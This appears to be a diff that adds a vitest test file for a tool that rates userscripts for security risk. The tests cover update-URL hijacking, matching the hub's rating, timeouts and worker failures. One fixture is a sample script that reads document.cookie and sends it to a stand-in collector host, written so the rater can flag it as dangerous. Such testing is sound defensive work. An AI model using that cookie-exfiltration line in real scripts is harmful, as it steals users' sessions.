@@ -1,0 +1,126 @@
+import type { ScriptInput } from "@scriptorium/script-analyzer/analysis-result";
+import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
+import { toUserscript } from "@scriptorium/userscript/to-userscript";
+import { afterEach, expect, it, vi } from "vitest";
+import { RATING_TIMEOUT_MS, type RatingWorker, rateScript } from "../rating/rate-script.ts";
+import { readMenuScript } from "./menu-script.ts";
+import { ratableText } from "./ratable-text.ts";
+
+afterEach(() => void vi.useRealTimers());
+
+const hubOrigin = "https://hub.example";
+const updates = `${hubOrigin}/scripts/1/a`;
+
+/** A worker that answers with what `respond` returns; nothing for undefined. */
+function worker(respond: (input: ScriptInput) => unknown) {
+	const ended = vi.fn();
+	const port: RatingWorker = {
+		onmessage: null,
+		onmessageerror: null,
+		onerror: null,
+		postMessage(input: ScriptInput) {
+			const data = respond(input);
+			if (data !== undefined)
+				queueMicrotask(() => port.onmessage?.call(port as Worker, new MessageEvent("message", { data })));
+		},
+		terminate: ended,
+	};
+	return { spawn: () => port, port, ended };
+}
+
+function rate(code: string, { spawn } = worker(analyzeScript), signal = new AbortController().signal) {
+	return rateScript(ratableText(code, { hubOrigin, menuScript: readMenuScript(code) }), { spawn, signal });
+}
+const resultOf = async (code: string) => {
+	const rating = await rate(code);
+	if (rating.state !== "rated") throw new Error(rating.reason);
+	return rating.result;
+};
+
+const userscript = (lines: readonly string[], body: string) =>
+	[
+		"// ==UserScript==",
+		"// @name Quiet",
+		"// @namespace https://ada.example",
+		"// @match https://example.org/*",
+		...lines,
+		"// ==/UserScript==",
+		body,
+	].join("\n");
+
+it("rates a served userscript as the hub has rated the stored one", async () => {
+	const stored = userscript([], "document.title = 'x';");
+	const served = userscript(
+		["// @version 1.2.0", `// @updateURL    ${updates}.meta.js`, `// @downloadURL  ${updates}.user.js?update`],
+		"document.title = 'x';",
+	);
+	const { risk_level, score, vulnerabilities } = await resultOf(served);
+	expect({ risk_level, score, vulnerabilities }).toEqual({ risk_level: "green", score: 100, vulnerabilities: [] });
+	expect(analyzeScript({ code: stored })).toMatchObject({ risk_level, score });
+});
+
+it("counts update addresses that are not the hub's", async () => {
+	const foreign = "// @downloadURL https://elsewhere.example/a.user.js";
+	const lookalike = `// @downloadURL ${hubOrigin}.evil.test/a.user.js`;
+	for (const line of [foreign, lookalike]) {
+		expect((await resultOf(userscript([line], "1;"))).vulnerabilities).toMatchObject([{ type: "update-hijack" }]);
+	}
+});
+
+it("rates a bookmarklet without the menu command around it, at the lines of the served text", async () => {
+	const body = "const secret = document.cookie;\nfetch('https://collector.example/?' + secret);";
+	const about = { name: "Leak", description: "It leaks.", version: "1.0.0", author: "A", namespace: hubOrigin };
+	const code = toUserscript({
+		...about,
+		body,
+		updateUrl: `${updates}.meta.js`,
+		downloadUrl: `${updates}.user.js?update`,
+	});
+	const result = await resultOf(code);
+	const stored = analyzeScript({ code: body });
+	expect(result).toMatchObject({ risk_level: "red", score: stored.score });
+	expect(result.vulnerabilities.map(({ type }) => type)).toEqual(stored.vulnerabilities.map(({ type }) => type));
+	const [worst] = result.vulnerabilities;
+	expect(code.split("\n")[(worst?.line ?? 0) - 1]).toContain("fetch(");
+});
+
+it("says that the check took too long, and ends the worker", async () => {
+	vi.useFakeTimers();
+	const hanging = worker(() => undefined);
+	const rating = rate("x", hanging);
+	await vi.advanceTimersByTimeAsync(RATING_TIMEOUT_MS);
+	expect(await rating).toEqual({ state: "failed", reason: "took-too-long" });
+	expect(hanging.ended).toHaveBeenCalled();
+});
+
+it("takes nothing but a result for a rating", async () => {
+	const failed = { state: "failed", reason: "crashed" };
+	expect(
+		await rate(
+			"x",
+			worker(() => ({ risk_level: "green", score: 100 })),
+		),
+	).toEqual(failed);
+	const refusing = {
+		...worker(() => undefined),
+		spawn: () => {
+			throw new Error("no worker");
+		},
+	};
+	expect(await rate("x", refusing)).toEqual(failed);
+	const broken = worker(() => undefined);
+	const rating = rate("x", broken);
+	broken.port.onerror?.call(
+		broken.port as Worker,
+		Object.assign(new Event("error"), { message: "boom" }) as ErrorEvent,
+	);
+	expect(await rating).toEqual(failed);
+	const leaving = new AbortController();
+	const left = rate(
+		"x",
+		worker(() => undefined),
+		leaving.signal,
+	);
+	leaving.abort();
+	expect(await left).toEqual(failed);
+});
